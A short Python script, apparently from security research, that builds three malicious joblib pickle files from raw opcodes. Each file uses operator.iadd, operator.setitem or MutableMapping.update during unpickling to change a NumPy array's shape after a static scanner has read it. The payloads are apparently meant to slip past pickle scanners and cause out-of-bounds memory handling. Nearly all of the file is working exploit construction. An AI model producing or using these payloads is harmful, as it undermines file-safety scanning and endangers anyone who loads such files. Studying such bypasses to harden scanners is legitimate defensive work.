from common import *
N=30
Wc = lambda shp: G('joblib.numpy_pickle','NumpyArrayWrapper')+b'('+G('numpy','ndarray')+shp+U('C')+dtype('u1')+b'\x89NtR'
# b2b: operator.iadd(shape, [2]) extends the list in place: scanner [30], joblib [30, 2]
shape = b']'+I(N)+b'aq\x00'
mut = G('operator','iadd')+b'(h\x00]K\x02atR0'
run('b2b.joblib', b'\x80\x02'+shape+mut+Wc(b'h\x00')+b'}b'+region(60,[0,N]))
# b2c: the BUILD state dict is changed by operator.setitem between its making and the BUILD
st = b'}q\x01'+b'0'   # empty dict memo 1, popped
mut = G('operator','setitem')+b'(h\x01'+U('shape')+b'K\x3c\x85tR0'
run('b2c.joblib', b'\x80\x02'+st+mut+Wc(I(N)+b'\x85')+b'h\x01b'+region(60,[0,N]))
# b2d: _collections_abc.MutableMapping.update (a MutableMapping method) on the state dict
mut = G('_collections_abc','MutableMapping.update')+b'(h\x01}'+U('shape')+b'K\x3c\x85stR0'
run('b2d.joblib', b'\x80\x04'+st+mut+Wc(I(N)+b'\x85')+b'h\x01b'+region(60,[0,N]))
